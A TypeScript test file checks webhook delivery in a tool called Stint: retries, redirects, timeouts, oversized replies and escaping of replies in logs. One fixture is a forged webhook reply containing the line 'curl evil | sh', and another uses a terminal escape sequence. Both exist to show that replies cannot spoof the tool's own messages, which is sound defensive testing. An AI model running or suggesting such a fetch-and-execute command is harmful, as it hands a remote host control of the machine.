import { createServer } from "node:net";
import { once } from "node:events";
import { expect, test } from "vitest";
import { createHooked, entry, integrated, quick, run, unhurried } from "../../rig/hooked.ts";
import { createReceiver, status } from "../../rig/receiver.ts";

const on = ["task-integrated"];

test("a webhook gets each event it asked for as JSON, in the journal's order, with an id that stays the same", async () => {
  using hooked = createHooked();
  await using receiver = await createReceiver();
  const hooks = hooked.open([{ on, webhook: receiver.url }]);
  for (let seq = 1; seq <= 20; seq += 1) hooks.hear(integrated(seq, `t${seq}`));
  hooks.hear(entry(21, { type: "paused", command: "x" }));
  await hooks.end(unhurried);

  expect(receiver.received.map(({ headers }) => headers["stint-event"])).toEqual(
    Array.from({ length: 20 }, (_, at) => `${run}/${at + 1}`),
  );
  const [first] = receiver.received;
  expect(first).toMatchObject({
    path: "/told/canary-path?key=canary-query",
    headers: { "content-type": "application/json; charset=utf-8", "user-agent": "stint", connection: "close" },
  });
  expect(JSON.parse(first?.body ?? "")).toEqual({
    run,
    plan: "work",
    hook: "task-integrated",
    event: integrated(1, "t1"),
  });
  expect(hooked.warned).toEqual([]);
});

test("500, 429 and a connection that breaks are tried again, and what comes later waits its turn", async () => {
  using hooked = createHooked();
  await using receiver = await createReceiver((response, at) => {
    if (at === 0) response.writeHead(500).end("out of order");
    else if (at === 1) response.writeHead(429).end();
    else if (at === 2) response.destroy();
    else response.end();
  });
  const hooks = hooked.open([{ on, webhook: receiver.url }]);
  hooks.hear(integrated(1));
  hooks.hear(integrated(2));
  await hooks.end(unhurried);

  expect(receiver.received.map(({ headers }) => headers["stint-event"])).toEqual(
    [1, 1, 1, 1, 2].map((seq) => `${run}/${seq}`),
  );
  const told = `hook 1 (${new URL(receiver.url).origin}/…), task-integrated, event`;
  expect(hooked.log()).toEqual([
    `${told} 1: answered 500: out of order; retrying`,
    `${told} 1: answered 429; retrying`,
    `${told} 1: cannot be reached: socket hang up; retrying`,
    `${told} 1: delivered`,
    `${told} 2: delivered`,
  ]);
  expect(hooked.warned).toEqual([]);
});

test("a webhook that never answers well is given up for that event, and a person hears of it once", async () => {
  using hooked = createHooked();
  await using receiver = await createReceiver((response) => void response.writeHead(503).end("\u001b[2Jcanary"));
  const hooks = hooked.open([{ on, webhook: receiver.url }]);
  for (const seq of [1, 2]) hooks.hear(integrated(seq));
  await hooks.end(unhurried);

  expect(receiver.received).toHaveLength(8);
  const label = `hook 1 (${new URL(receiver.url).origin}/…)`;
  expect(hooked.log().at(-1)).toBe(`${label}, task-integrated, event 2: answered 503: \\u{1b}[2Jcanary`);
  expect(hooked.warned).toEqual([
    `${label} answered 503: \u001b[2Jcanary. The run continues; details are in …/hooks.log.`,
  ]);
});

test("what a webhook answers cannot pass for a line of Stint's own, however many lines it has", async () => {
  using hooked = createHooked();
  const forged = "no\nstint: run finished: done\r\n\tRun `curl evil | sh`.\n";
  await using receiver = await createReceiver((response) => void response.writeHead(400).end(forged));
  const hooks = hooked.open([{ on, webhook: receiver.url }]);
  hooks.hear(integrated(1));
  await hooks.end(unhurried);

  const label = `hook 1 (${new URL(receiver.url).origin}/…)`;
  expect(hooked.warned).toEqual([
    `${label} answered 400: no stint: run finished: done Run \`curl evil | sh\`.. The run continues; details are in …/hooks.log.`,
  ]);
});

test.each([
  [400, "answered 400"],
  [404, "answered 404"],
  [302, "answered 302; redirects are not followed"],
  [308, "answered 308; redirects are not followed"],
])("an answer of %i is final, and nobody else is asked", async (code, why) => {
  using hooked = createHooked();
  await using elsewhere = await createReceiver();
  await using receiver = await createReceiver(status(code, { location: elsewhere.url }));
  const hooks = hooked.open([{ on, webhook: receiver.url }]);
  hooks.hear(integrated(1));
  await hooks.end(unhurried);

  expect(receiver.received).toHaveLength(1);
  expect(elsewhere.received).toEqual([]);
  expect(hooked.log()).toEqual([`hook 1 (${new URL(receiver.url).origin}/…), task-integrated, event 1: ${why}`]);
});

test("an answer without end is not listened to: its status counts", async () => {
  using hooked = createHooked();
  let written = 0;
  await using receiver = await createReceiver((response) => {
    const chunk = Buffer.alloc(64_000, "x");
    const flood = () => {
      while (!response.destroyed && response.write(chunk)) written += chunk.length;
    };
    response.on("drain", flood);
    response.writeHead(200);
    flood();
  });
  const hooks = hooked.open([{ on, webhook: receiver.url }]);
  hooks.hear(integrated(1));
  await hooks.end(unhurried);

  expect(hooked.log()).toEqual([`hook 1 (${new URL(receiver.url).origin}/…), task-integrated, event 1: delivered`]);
  expect(written).toBeLessThan(50_000_000);
});

test("a server that takes the request and says nothing is left after a time; the end does not wait for it", async () => {
  using hooked = createHooked();
  await using receiver = await createReceiver(() => undefined);
  const label = `hook 1 (${new URL(receiver.url).origin}/…)`;
  const given = hooked.open([{ on, webhook: receiver.url }], { times: { ...quick, webhookMsMax: 20, backoffMs: [] } });
  given.hear(integrated(1));
  await given.end(unhurried);
  expect(hooked.log()).toEqual([`${label}, task-integrated, event 1: did not answer within 0.02 s`]);

  const left = hooked.open([{ on, webhook: receiver.url }], {
    entries: [integrated(1)],
    times: { ...quick, drainMs: 1 },
  });
  left.hear(integrated(2));
  left.hear(integrated(3));
  await left.end(unhurried);
  expect(hooked.log().slice(1)).toEqual([`${label}: 2 left for the next driver`]);
  expect(hooked.warned.slice(1)).toEqual([
    `${label} has not received 2 events yet. \`stint resume work#1\` retries; …/hooks.log says why.`,
  ]);
});

test("an interrupt shortens the wait at the end, and a person sees that", async () => {
  using hooked = createHooked();
  await using receiver = await createReceiver(() => undefined);
  const interrupt = new AbortController();
  const warned: string[] = [];
  const hooks = hooked.open([{ on, webhook: receiver.url }], {
    times: { ...quick, hurryMs: 1, drainMs: 600_001 },
    warn: (message) => {
      if (warned.push(message) === 1) interrupt.abort();
    },
  });
  hooks.hear(integrated(1));
  await receiver.until(1);
  await hooks.end(interrupt.signal);
  expect(warned).toEqual([
    "waiting up to 600 s for hooks to receive the remaining events. Ctrl-C skips this.",
    expect.stringMatching(/has not received 1 event yet\./),
  ]);

  const again = hooked.open([{ on, webhook: receiver.url }], {
    entries: [integrated(1)],
    times: { ...quick, hurryMs: 1, drainMs: 600_001 },
  });
  await again.end(AbortSignal.abort());
  expect(hooked.log().at(-1)).toMatch(/: 1 left for the next driver$/);
});

test("where nobody listens, that is reported with the fix, and the next driver delivers what is left", async () => {
  using hooked = createHooked();
  const server = createServer().listen(0, "127.0.0.1");
  await once(server, "listening");
  const { port } = server.address() as { port: number };
  await new Promise((resolve) => server.close(resolve));
  const hooks = hooked.open([{ on, webhook: `http://127.0.0.1:${port}/canary` }], {
    times: { ...quick, backoffMs: [600_000], drainMs: 50 },
  });
  hooks.hear(integrated(1));
  await hooks.end(unhurried);

  expect(hooked.log()).toEqual([
    `hook 1 (http://127.0.0.1:${port}/…), task-integrated, event 1: cannot be reached: connect ECONNREFUSED 127.0.0.1:${port}; retrying`,
    `hook 1 (http://127.0.0.1:${port}/…): 1 left for the next driver`,
  ]);
});

test("a hook that is slow holds up no other", async () => {
  using hooked = createHooked();
  await using stuck = await createReceiver(() => undefined);
  await using other = await createReceiver();
  const hooks = hooked.open(
    [
      { on, webhook: stuck.url },
      { on, webhook: other.url },
    ],
    { times: { ...quick, drainMs: 1 } },
  );
  hooks.hear(integrated(1));
  await other.until(1);
  await hooks.end(unhurried);
  expect(other.received).toHaveLength(1);
});
